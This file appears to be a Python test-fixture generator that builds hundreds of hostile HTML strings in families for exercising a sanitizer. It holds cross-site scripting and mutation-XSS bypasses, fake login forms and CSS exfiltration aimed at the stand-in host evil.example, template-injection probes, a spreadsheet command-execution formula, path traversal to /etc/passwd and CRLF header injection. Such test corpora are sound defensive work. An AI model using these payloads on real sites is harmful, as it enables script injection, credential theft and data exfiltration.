"""Hostile HTML, made from families: each vector tries to run `canary()`, to fetch from `EVIL`, or to change the page.

Written for this project. What one vector cannot do in one browser, its neighbour may in another: families are spanned
whole, over the elements, the carriers and the spellings that are known to make a difference.
"""

from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from itertools import chain, product

EVIL = "https://evil.example"
RUN = "canary()"
IMG = f"<img src=x onerror={RUN}>"


@dataclass(frozen=True, slots=True)
class Vector:
    """A piece of hostile text, and the family that it is of."""

    family: str
    html: str


def vectors() -> tuple[Vector, ...]:
    """Return all vectors, each once, in the order of their families."""
    found: dict[str, Vector] = {}
    for family, make in FAMILIES.items():
        for html in make():
            found.setdefault(html, Vector(family, html))
    return tuple(found.values())


def _scripts() -> Iterator[str]:
    opening = ["<script>", "<SCRIPT>", "<scr\x00ipt>", "<script\x00>", "<script\t>", "<script\n>", "<script/x>", "<script x=y>",
               "<<script>", "<script type=module>", "<script language=javascript>", "<script\x0c>", "<script xmlns='x'>",
               "<script a='>'>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>", "<scrıpt>", "<ſcript>", "<script charset=utf-7>"]  # fmt: skip
    for tag in opening:
        yield f"{tag}{RUN}</script>"
    yield f"<script>{RUN}"
    yield f"<script>{RUN}//"
    yield f"<script>{RUN}</script"
    yield f"<script>{RUN}</script\t\n bar>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script src={EVIL}/x.js></script>"
    yield "<script src=//evil.example/x.js></script>"
    yield f"<script src='data:text/javascript,{RUN}'></script>"
    yield f'<script type=importmap>{{"imports":{{"x":"{EVIL}/x.js"}}}}</script>'
    yield f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/p"]}}]}}</script>'
    yield f"<p>avant<script>{RUN}</script>après</p>"
    yield f"<b><script>{RUN}</b></script>"
    yield f"<script>/*</script><script>*/{RUN}</script>"
    yield f"<script><!--<script>{RUN}</script>{RUN}</script>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href='data:text/javascript,{RUN}' /></svg>"
    yield f"<svg><script xlink:href='data:text/javascript,{RUN}'></script></svg>"
    yield "<svg><script>&#99;anary()</script></svg>"
    yield f"<math><script>{RUN}</script></math>"
    yield f"<script>{RUN}</script>" * 20


def _handlers() -> Iterator[str]:
    carriers = {
        "img src=x": "onerror", "svg": "onload", "body": "onload", "video src=x": "onerror", "audio src=x": "onerror",
        "details open": "ontoggle", "input autofocus": "onfocus", "select autofocus": "onfocus",
        "textarea autofocus": "onfocus", "button autofocus": "onfocus", "marquee": "onstart", "object data=x": "onerror",
        "iframe src=x": "onload", "a href=# autofocus": "onfocus", "p contenteditable autofocus": "onfocus",
        "div tabindex=1 autofocus": "onfocus", "style": "onload", "link rel=stylesheet href=x": "onerror",
        "embed src=x": "onerror", "frameset": "onload", "video><source": "onerror", "image src=x": "onerror",
        "dialog open": "ontoggle", "b onmouseover=canary() x": "onclick", "xss style=animation-name:a": "onanimationstart",
        "h1": "onpointerrawupdate", "li": "onmouseenter", "td": "onbeforeinput", "blockquote": "oncopy",
        "abbr title=x": "onfocusin", "time datetime=x": "onwheel", "table": "onscroll", "pre": "onscrollend", "hr": "oncontentvisibilityautostatechange",
    }  # fmt: skip
    for tag, handler in carriers.items():
        yield f"<{tag} {handler}={RUN}>texte"
    for value in (
        f"'{RUN}'",
        f'"{RUN}"',
        f"`{RUN}`",
        "&#99;anary()",
        "\\u0063anary()",
        f"\n{RUN}\n",
        f"javascript:{RUN}",
        "eval('can'+'ary()')",
    ):
        yield f"<img src=x onerror={value}>"
    for gap in ("/", "\t", "\n", "\r", "\x0c", "\x0b", "/**/", "\x00", "//", "\xa0", "<", "'x'", "/x=1/"):
        yield f"<img{gap}src=x{gap}onerror={RUN}>"
    yield f"<img src=x OnErRoR={RUN}>"
    yield f"<img src=x onerror{chr(0)}={RUN}>"
    yield f"<img src=x onerror\n=\n{RUN}>"
    yield f"<img src=x '=\"' onerror={RUN}>"
    yield f'<img src="x` `<script>{RUN}</script>"` `>'
    yield f'<img """><script>{RUN}</script>">'
    yield f"<img src=x onerror={RUN}"
    yield f'<a href="x"onmouseover={RUN} autofocus onfocus={RUN}>y</a>'
    yield f"<IMG SRC=x xmlns:onerror=x onerror:x={RUN} onerror={RUN}>"


def _raw_texts() -> Iterator[str]:
    """Elements whose content is text to one parser and markup to another."""
    names = ["noscript", "template", "style", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "plaintext",
             "listing", "script", "select", "option", "object", "video", "canvas", "dialog", "details", "summary", "frameset",
             "head", "html", "body", "colgroup", "caption", "ruby", "rp", "slot", "portal", "fencedframe"]  # fmt: skip
    for name in names:
        yield f'<{name}><p title="</{name}>{IMG}">x'
        yield f"<{name}><!--</{name}>{IMG}-->"
        yield f"</{name}>{IMG}"
    for outer, inner in product(("svg", "math"), ("style", "title", "noscript", "xmp", "textarea", "iframe")):
        yield f'<{outer}><{inner}><a id="</{inner}>{IMG}"></{inner}></{outer}>'


def _namespaces() -> Iterator[str]:
    points = ["math><mtext", "math><mi", "math><mo", "math><mn", "math><ms", "math><annotation-xml encoding=text/html",
              "math><annotation-xml encoding=application/xhtml+xml", "svg><desc", "svg><title", "svg><foreignObject"]  # fmt: skip
    for point, inner in product(points, ("style", "title", "noscript", "mglyph><style", "table><mglyph><style")):
        close = inner.rpartition("<")[2]
        yield f"<{point}><{inner}><!--</{close}><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{IMG}"
    yield f'<svg></p><style><a id="</style>{IMG}">'
    yield f'<svg></br><style><a title="</style>{IMG}">'
    yield f"<math><p></p><style><!--</style>{IMG}--></style></math>"
    yield f'<table><svg><desc><td><svg><style><a title="</style>{IMG}">'
    yield f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>{IMG}"></style></h1>'
    yield f"<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror={RUN}>'>"
    yield f"<p><svg><font color=x><style><a title='</style>{IMG}'>"


def _vector_graphics() -> Iterator[str]:
    yield f"<svg onload={RUN}>"
    yield f"<svg/onload={RUN}//"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><set onbegin={RUN} attributename=x to=y>"
    yield f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text x=20 y=20>x</text></a></svg>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>"
    yield f"<svg><a><set attributeName=xlink:href to='javascript:{RUN}'/><text y=20>x</text></a></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror={RUN} /></svg>#x' />"
    yield f"<svg><use href='{EVIL}/x.svg#x'/></svg>"
    yield f"<svg><image href='{EVIL}/p.png'/></svg>"
    yield f"<svg><filter><feImage href='{EVIL}/p.png'/></filter></svg>"
    yield f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>"
    yield f"<svg><style>*{{background:url({EVIL}/p)}}</style></svg>"
    yield f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{RUN}</handler></svg>"
    yield f"<svg><title><a id='</title>{IMG}'></svg>"
    yield f"<math href='javascript:{RUN}'>x</math>"
    yield f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>"
    yield f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>"
    yield f"<math><semantics><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></semantics></math>"


def _comments() -> Iterator[str]:
    for opening in ("<!-->", "<!--->", "<!--a--!>", "<!--a-- >", "<!-a->", "<!a>", "<?a>", "<?xml version='1.0'?>", "</ >", "<//>", "<%a%>", "<![CDATA[a]]>", "<![endif]-->",
                    "<!--[if gte IE 4]>", "<!--[if !IE]>-->", "<!DOCTYPE html>", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "]]>", "-->", "--!>", "<!--<!-- -->"):  # fmt: skip
        yield f"{opening}{IMG}"
    yield f"<!--{IMG}--"
    yield f"<![CDATA[<script>{RUN}</script>]]>"
    yield f"<![CDATA[]]]]><![CDATA[>{IMG}]]>"
    yield f"<!--[if IE]><script>{RUN}</script><![endif]-->"
    yield f"<?xml-stylesheet href='javascript:{RUN}'?>"
    yield f"<?import namespace='t' implementation='{EVIL}/x.htc'?>"
    yield f"<!--\x00-->{IMG}"
    yield f"<!ELEMENT x>{IMG}"


def _entities() -> Iterator[str]:
    for payload in (
        f"<script>{RUN}</script>",
        IMG,
        f'<a href="javascript:{RUN}">x</a>',
        f"<svg onload={RUN}>",
        f'<iframe srcdoc="{IMG}"></iframe>',
    ):
        once = escape(payload)
        for times in (once, escape(once), escape(escape(once))):
            yield times
            yield f"<p>{times}</p>"
        yield "".join(f"&#{ord(c)};" for c in payload)
        yield "".join(f"&#x{ord(c):x};" for c in payload)
        yield "".join(f"&#{ord(c):07d}" for c in payload)
        yield payload.replace("<", "&lt").replace(">", "&gt")
        yield payload.replace("<", "&LT;").replace(">", "&GT;")
        yield payload.replace("<", "\\u003c").replace(">", "\\u003e")
        yield payload.replace("<", "\\x3c").replace(">", "\\x3e")
        yield payload.replace("<", "%3C").replace(">", "%3E")
        yield payload.replace("<", "＜").replace(">", "＞")
        yield payload.replace("<", "+ADw-").replace(">", "+AD4-")
        yield payload.replace("<", "¼").replace(">", "¾")
        yield payload.replace("<", "&lang;").replace(">", "&rang;")


def _addresses() -> Iterator[str]:
    """Yield addresses that run something, in the spellings that filters miss."""
    script = f"javascript:{RUN}"
    yield script
    yield script.upper().replace("CANARY()", RUN)
    for at, gap in product(
        (0, 4, 10),
        (
            "\t",
            "\n",
            "\r",
            "\x00",
            "&#9;",
            "&#x0A;",
            "&Tab;",
            "&NewLine;",
            "&#0;",
            "\x01",
            "\x0c",
            "\u00ad",
            "\u200b",
            "\u202e",
            "/**/",
        ),
    ):
        yield script[:at] + gap + script[at:]
    for lead in (
        " ",
        "\x01",
        "\x1f",
        "&#1;",
        "&#x20;",
        "\u3000",
        "\ufeff",
        "feed:",
        "view-source:",
        "url:",
        "x-",
        "http:javascript:",
        "//javascript:",
        "\\",
    ):
        yield lead + script
    yield script.replace(":", "&colon;")
    yield script.replace(":", "&#58")
    yield script.replace(":", "：")
    yield script.replace(":", "%3A")
    yield script.replace("j", "&#106;").replace("s", "&#x73;")
    yield script.replace("j", "\\6a ")
    yield "".join(f"&#{ord(c)};" for c in script)
    yield "".join(f"&#x{ord(c):06X}" for c in script)
    yield f"javascript://%0a{RUN}"
    yield f"javascript://{EVIL[8:]}/%0d%0a{RUN}"
    yield f"javascript&amp;colon;{RUN}"
    yield f"vbscript:msgbox({RUN})"
    yield f"livescript:{RUN}"
    yield f"mocha:{RUN}"
    yield f"data:text/html,<script>{RUN}</script>"
    yield "data:text/html;base64," + b64encode(f"<script>{RUN}</script>".encode()).decode()
    yield f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"
    yield f"data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>"
    yield f"DaTa:,{RUN}"


def _other_addresses() -> Iterator[str]:
    """Yield addresses that read a file, start a program, or show as another host than theirs."""
    yield "blob:https://portail.example/1"
    yield "filesystem:https://portail.example/1"
    yield f"jar:{EVIL}/x.jar!/x.html"
    yield "file:///etc/passwd"
    yield "intent://x#Intent;scheme=javascript;end"
    yield "ms-settings:privacy"
    yield "about:blank"
    yield "steam://run/1"
    yield "\\\\evil.example\\x"
    yield "//evil.example/x"
    yield "https:evil.example"
    yield "https:\\\\evil.example"
    yield "https://www.gouv.fr@evil.example/"
    yield "https://www.gouv.fr%40evil.example/"
    yield 'https://evil.example/" onmouseover="canary()'
    yield "https://evil.example/' onmouseover='canary()"
    yield "https://evil.example/><script>canary()</script>"
    yield "https://evil.example/\n<script>canary()</script>"
    yield "https://[::1"
    yield "https://evil.example:99999/"
    yield "https://www.gоuv.fr/"  # a Cyrillic o
    yield "https://www.ɡouv.fr/"
    yield "https://xn--gouv-x.fr/\u202egpj.exe"
    yield "https://ｅｖｉｌ．example/"
    yield "https://evil。example/"
    yield "mailto:x@example?subject=<script>canary()</script>&bcc=evil@evil.example%0aTo:x"
    yield "tel:17<script>canary()</script>"


def _links() -> Iterator[str]:
    yield from (
        f'<a href="{address.replace(chr(34), "&quot;")}">lien</a>'
        for address in chain(_addresses(), _other_addresses())
    )
    yield from (f"<a href={address}>lien</a>" for address in list(_addresses())[:20])
    yield from _addresses()
    yield from _other_addresses()


def _carriers() -> Iterator[str]:
    forms = [
        "<area href='{}'>", "<form action='{}'><input type=submit>", "<button form=f formaction='{}'>x</button>",
        "<input type=image formaction='{}'>", "<isindex action='{}'>", "<iframe src='{}'></iframe>", "<frame src='{}'>", "<embed src='{}'>",
        "<object data='{}'></object>", "<object><param name=movie value='{}'></object>", "<applet code='{}'></applet>",
        "<img src='{}'>", "<img lowsrc='{}'>", "<img dynsrc='{}'>", "<image href='{}'>", "<base href='{}'><a href=x>y</a>",
        "<link rel=stylesheet href='{}'>", "<link rel=import href='{}'>", "<meta http-equiv=refresh content='0;url={}'>",
        "<meta http-equiv=refresh content='0;{}'>", "<body background='{}'>", "<table background='{}'>", "<td background='{}'>x</td>",
        "<blockquote cite='{}'>x</blockquote>", "<q cite='{}'>x</q>", "<del cite='{}'>x</del>", "<a ping='{}' href='https://a.example/'>x</a>",
        "<video poster='{}'></video>", "<bgsound src='{}'>", "<layer src='{}'>", "<xml src='{}'>", "<html manifest='{}'>",
        "<script src='{}'></script>", "<p style='background:url({})'>x</p>", '<div style="-moz-binding:url({})">x</div>',
        "<a href='https://a.example/' formaction='{}' action='{}' data='{}' src='{}'>x</a>", "<portal src='{}'></portal>",
        "<img usemap=#m><map name=m><area href='{}' shape=default></map>", "<svg><a href='{}'>x</a></svg>", "<track src='{}'>",
    ]  # fmt: skip
    for form, address in product(forms, (f"javascript:{RUN}", f"{EVIL}/p")):
        yield form.replace("{}", address)


def _pages() -> Iterator[str]:
    """Yield what acts on the whole page: base, meta, forms, frames."""
    yield f"<base href={EVIL}/><a href=x>y</a>"
    yield "<base target=_top>"
    yield f"<meta http-equiv=refresh content=0;url={EVIL}/>"
    yield "<meta http-equiv=Set-Cookie content='a=b'>"
    yield f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>"
    yield "<meta charset=utf-7>+ADw-script+AD4-canary()+ADw-/script+AD4-"
    yield "<meta name=referrer content=unsafe-url>"
    yield f"<link rel=prefetch href={EVIL}/p>"
    yield "<link rel=dns-prefetch href=//evil.example>"
    yield f"<link rel=preload as=image href={EVIL}/p>"
    yield f"<link rel=icon href={EVIL}/p>"
    yield f'<link rel=stylesheet href="data:text/css,*{{background:url({EVIL}/p)}}">'
    yield f"<form action={EVIL}/><input name=mdp type=password><button>Se connecter</button></form>"
    yield f"<form id=f></form><button form=f formaction={EVIL}/ formtarget=_top>x</button>"
    yield "<input type=hidden name=csrf value=x><textarea name=x></textarea><select><option>x</select><keygen name=x>"
    yield "</form><form><input autofocus>"
    yield f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'
    yield f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;" sandbox=allow-scripts></iframe>'
    yield f"<iframe src={EVIL}/></iframe>"
    yield f"<iframe src=x onload={RUN}></iframe>"
    yield f"<frameset><frame src=javascript:{RUN}></frameset>"
    yield f'<object type=text/html data="data:text/html,<script>parent.{RUN}</script>"></object>'
    yield f"<embed type=image/svg+xml src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">"
    yield f"<object classid=clsid:1><param name=url value={EVIL}/x></object>"
    yield "</div></article></main></body></html><h1>Fausse page</h1>"
    yield "</p></div></div></div></section></main><footer>Faux pied</footer>"
    yield "<plaintext>la suite est du texte"
    yield "<xmp>la suite est du texte"
    yield "<textarea>la suite est du texte"
    yield "<title>autre titre</title>"
    yield "<dialog open style='position:fixed;inset:0'>Faux message</dialog>"
    yield "<div popover id=p>x</div><button popovertarget=p>y</button>"
    yield "<a href=https://a.example/ target=_blank rel=opener>x</a>"
    yield "<a href=https://a.example/ download=x.exe>x</a>"
    yield f"<a href={EVIL}/ ping={EVIL}/p attributionsrc={EVIL}/p>x</a>"


def _styles() -> Iterator[str]:
    rules = [
        f"background:url({EVIL}/p)", f"background:url(javascript:{RUN})", f"width:expression({RUN})", f"-moz-binding:url({EVIL}/x.xml#x)",
        f"behavior:url({EVIL}/x.htc)", "position:fixed;inset:0;z-index:9999;background:#fff", f"list-style-image:url({EVIL}/p)",
        f"content:url({EVIL}/p)", f"cursor:url({EVIL}/p),auto", f"background:\\75rl({EVIL}/p)", f"background:u/**/rl({EVIL}/p)",
        f"background-image:image-set('{EVIL}/p' 1x)", f"mask:url({EVIL}/p)", f"border-image:url({EVIL}/p)", "display:none", "visibility:hidden",
        "direction:rtl;unicode-bidi:bidi-override", "font-size:0", f"animation:x;background:var(--x,url({EVIL}/p))",
    ]  # fmt: skip
    for rule in rules:
        yield f"<p style='{rule}'>x</p>"
        yield f"<style>*{{{rule}}}</style><p>x</p>"
    yield f"<style>@import '{EVIL}/x.css';</style>"
    yield f"<style>@font-face{{font-family:x;src:url({EVIL}/f)}}p{{font-family:x}}</style><p>x</p>"
    yield f"<style></style>{IMG}</style>"
    yield f"<style><!--</style>{IMG}-->"
    yield "<style>input[value^=a]{background:url(https://evil.example/a)}</style>"
    yield f"<div style=\"x:'</style>{IMG}'\">"
    yield "<font style='color:red' color=white size=1 face=x>x</font><center>x</center>"


def _loads() -> Iterator[str]:
    yield from (
        f"<img src={EVIL}/p.gif width=1 height=1>",
        f"<img srcset='{EVIL}/a 1x, {EVIL}/b 2x'>",
        "<img src=//evil.example/p>",
        f"<picture><source srcset={EVIL}/p><img src=x></picture>",
        f"<video src={EVIL}/v autoplay></video>",
        f"<audio src={EVIL}/a autoplay>",
        f"<video><source src={EVIL}/v><track src={EVIL}/t default></video>",
        f"<video poster={EVIL}/p></video>",
        f"<input type=image src={EVIL}/p>",
        f"<img src=x crossorigin=use-credentials srcset={EVIL}/p>",
        f"<img loading=eager src='{EVIL}/p'>",
        f"<img src='\t{EVIL}/p'>",
        "<img src=https:evil.example/p>",
        f"<img/src={EVIL}/p>",
        f"<IMAGE SRC={EVIL}/p>",
        f"<amp-img src={EVIL}/p></amp-img>",
        f"<object data={EVIL}/p></object>",
        f"<embed src={EVIL}/p>",
        f"<body background={EVIL}/p>",
        f"<table background={EVIL}/p><td>x</table>",
        f"<link rel=stylesheet href={EVIL}/c>",
        f"<script src={EVIL}/s></script>",
        f"<iframe src={EVIL}/f></iframe>",
        f"<svg><image href={EVIL}/p /></svg>",
    )


def _names() -> Iterator[str]:
    """Names that take the place of the page's own objects or anchors."""
    for name in (
        "body",
        "forms",
        "cookie",
        "location",
        "getElementById",
        "contenu",
        "attributes",
        "parentNode",
        "__proto__",
        "canary",
        "alert",
        "preuve",
        "liste",
        "top",
    ):
        yield f"<a id={name} name={name} href=https://a.example/>x</a>"
    yield "<form id=x><input name=attributes><input name=parentNode></form>"
    yield "<img name=currentScript><img id=documentElement>"
    yield "<a id=x href=https://a.example/><a id=x name=y href=https://b.example/>"
    yield "<p id=contenu class='card current' data-state=ended>x</p>"
    yield "<p class='wrap' role=alert aria-label=x lang=ar dir=rtl hidden inert tabindex=1 accesskey=x slot=x part=x is=x>x</p>"
    yield "<div itemscope itemtype=https://schema.org/Event itemprop=x vocab=x typeof=x property=x>x</div>"
    yield "<slot name=x></slot><template shadowrootmode=open><script>canary()</script></template>"


def _characters() -> Iterator[str]:
    for tag, sign in product(("p", "b", "a href=https://a.example/", "li"), ("\u0338", "\u0336", "&#x338;", "\u20d2")):
        yield f"<{tag}>{sign} onmouseover={RUN} x</p>"
    for sign in ("\x00", "\x08", "\x0b", "\x1b[31m", "\x7f", "\x85", "\xa0", "\xad", "\u061c", "\u180e", "\u200b", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202e",
                 "\u2066", "\u2068", "\ufeff", "\ufff9", "\ufffd", "\U000e0001", "\U000e0041", "&#0;", "&#x1b;", "&#x80;", "&#xd800;", "&#xdfff;", "&#xfffe;", "&#x110000;", "&#x202e;"):  # fmt: skip
        yield f"avant{sign}<b onmouseover={RUN}>fdp.exe</b>{sign}après"
    yield "\ud800\udc00 \ud800 \udfff"
    yield "Z" + "\u0300" * 1000
    yield "\u202e" * 1000 + "x"
    yield f"<im\u0131g src=x onerror={RUN}>"
    yield f"\u2039img src=x onerror={RUN}\u203a"
    yield f"<\u212aimg src=x onerror={RUN}>"
    yield "<p>\u02bconmouseover\uff1dcanary()</p>"
    yield f"{chr(0xFEFF)}<script>{RUN}</script>"
    yield f"<script>\u2028{RUN}</script>"
    yield f"<ſvg onload={RUN}>"


def _breaks() -> Iterator[str]:
    """Texts that would end what a template puts them into."""
    for ending in ('">', "'>", '"', "'", "`", "</title>", "</textarea>", "</style>", "</script>", "</p>", "</a>", "</main>", "</html>", "-->", "]]>", "?>", "}}", "%}", "*/", "\\", "\r\n\r\n", "</noscript>",
                   "</content>", "</entry>", "</channel>", "</item>", "&", "&quot;&gt;", "&#34;&#62;", '"]}'):  # fmt: skip
        yield f"{ending}{IMG}"
    yield f'" onmouseover="{RUN}'
    yield f"' onfocus='{RUN}' autofocus='"
    yield f'" onfocus={RUN} autofocus x="'
    yield f"` onerror={RUN} `"
    yield f"';{RUN};'"
    yield f'"-{RUN}-"'
    yield f'\\"-{RUN}//'
    yield "{{7*7}}{% raw %}{{ self.__init__.__globals__ }}"
    yield "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    yield "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('canary()')()}}"
    yield "%(x)s %s {0.__class__} $x ${x}"
    yield "| tr a b\n|file:///etc/passwd\n{filename}/../../etc/passwd {static}x |filename|x"
    yield "[x](javascript:canary()) ![y](https://evil.example/p) <javascript:canary()> `<script>`"
    yield '=HYPERLINK("https://evil.example","x") +cmd|\' /C calc\'!A0'
    yield "../../../../etc/passwd\x00.html"
    yield f"</script><script>{RUN}</script>"
    yield f'{{"@context":"x","name":"</script><script>{RUN}</script>"}}'
    yield f"\\u003c/script\\u003e\\u003cscript\\u003e{RUN}\\u003c/script\\u003e"
    yield f"<!--<script>{RUN}"
    yield f"]]></content><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script><![CDATA["
    yield "Location: https://evil.example\r\nSet-Cookie: a=b\r\n\r\n<script>canary()</script>"


def _lengths() -> Iterator[str]:
    yield f'<a href="https://a.example/{"x" * 9_000}" onclick={RUN}>x</a>'
    yield f"<p {'a' * 9_000}={RUN} onclick={RUN}>x</p>"
    yield "<p " + " ".join(f"on{n}={RUN}" for n in range(800)) + ">x</p>"
    yield "<b>" * 1000 + IMG
    yield "<div>" * 600 + f"<script>{RUN}</script>"
    yield "<table><tr><td>" * 300 + IMG
    yield "<" * 1500 + IMG
    yield "&lt;" * 1000 + IMG
    yield "<!--" * 1000 + "-->" + IMG
    yield "<svg>" * 500 + f"<script>{RUN}</script>"
    yield "x" * 21_000 + IMG
    yield "<p>mot</p>" * 700 + IMG
    yield f"<a href='javascript:{RUN}'>" * 500
    yield "<ul><li>" * 500 + IMG
    yield "A" * 1000
    yield "<a href=https://a.example/>" * 300 + "x"


FAMILIES = {
    "script": _scripts, "handler": _handlers, "raw text": _raw_texts, "namespace": _namespaces, "graphics": _vector_graphics,
    "comment": _comments, "entity": _entities, "link": _links, "carrier": _carriers, "page": _pages, "style": _styles,
    "load": _loads, "name": _names, "character": _characters, "break": _breaks, "length": _lengths,
}  # fmt: skip
